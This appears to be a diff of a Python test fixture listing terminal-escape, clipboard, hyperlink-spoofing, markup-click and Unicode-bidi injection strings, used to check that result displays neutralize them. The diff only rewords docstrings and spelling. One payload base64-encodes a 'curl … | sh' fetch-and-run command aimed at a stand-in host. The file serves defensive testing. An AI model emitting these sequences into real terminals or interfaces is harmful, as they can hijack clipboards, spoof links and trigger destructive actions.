@@ -1,6 +1,6 @@
-"""The job whose answers attack the terminal, the screen and the parser that show them.
+"""A job whose replies attack terminals, screens and parsers.
 
-Nothing here is dangerous as long as it is only bytes: what shows results has to keep it so.
+They are harmless as bytes. Programs that display results must neutralize them.
 """
 
 from typing import Any
@@ -14,7 +14,7 @@ ATTACKS = (
     f"{ESC}]52;c;Y3VybCBleGFtcGxlLmludmFsaWQgfCBzaA==\x07 writes the clipboard",
     f"{ESC}]52;c;?\x07 reads the clipboard",
     f"{ESC}]8;;https://example.invalid/phish{ESC}\\https://example.com{ESC}]8;;{ESC}\\ is a link that lies",
-    f"{ESC}]4;1;?{ESC}\\{ESC}]10;?{ESC}\\{ESC}]11;#ff0000{ESC}\\ asks for colours and changes them",
+    f"{ESC}]4;1;?{ESC}\\{ESC}]10;?{ESC}\\{ESC}]11;#ff0000{ESC}\\ asks for colors and changes them",
     f"{ESC}]1337;File=name=eC5zaA==;inline=0:ZWNobyBoaQo={ESC}\\ sends a file",
     f'{ESC}P$q"p{ESC}\\{ESC}P+q544e{ESC}\\{ESC}Pq#0;2;0;0;0~-{ESC}\\ is a DCS request and a sixel',
     f"{ESC}_Ga=T,f=24;AAAA{ESC}\\{ESC}^private{ESC}\\{ESC}Xstring{ESC}\\ are APC, PM and SOS",
@@ -23,7 +23,7 @@ ATTACKS = (
     "beep \x07 back \x08\x08\x08\x08space, tab \t, vertical \x0b, form \x0c, return \rOVER \x7f and \x00",
     "[@click=app.quit]x[/] quits when clicked, [@click=app.bell()]so does this[/]",
     "[bold red]loud[/] [/x] [/] [link=https://example.invalid]here[/link] [[literal]] [0] array[i] [on blue",
-    "[@click=screen.dismiss(True)]Yes, delete all[/] \\[bold] $primary [$error]colour[/]",
+    "[@click=screen.dismiss(True)]Yes, delete all[/] \\[bold] $primary [$error]color[/]",
     "user\u202etxt.exe\u202c and \u2066isolated\u2069 and \u061c and \u200f turn the line around",
     "zero\u200bwidth\u200djoin\u2060er\ufeff and soft\u00adhyphen and \u2028line\u2029paragraph separators",
     "tags \U000e0001\U000e0068\U000e0069\U000e0064\U000e0065\U000e007f hide, as \ufe0f\ufe0e\U000e0100 do",
@@ -50,8 +50,8 @@ SOURCE: dict[str, Any] = {
     "joiner": "\n",
     "failures": (
         *(("invalid_request_error", attack) for attack in ATTACKS),
-        (f"api_{ESC}[31merror", "an error type with colours"),
+        (f"api_{ESC}[31merror", "an error type with colors"),
         ("[bold]markup_error[/]", "an error type with markup"),
     ),
 }
-"""What the file of any other job holds."""
+"""The same keys as in the file of another job."""
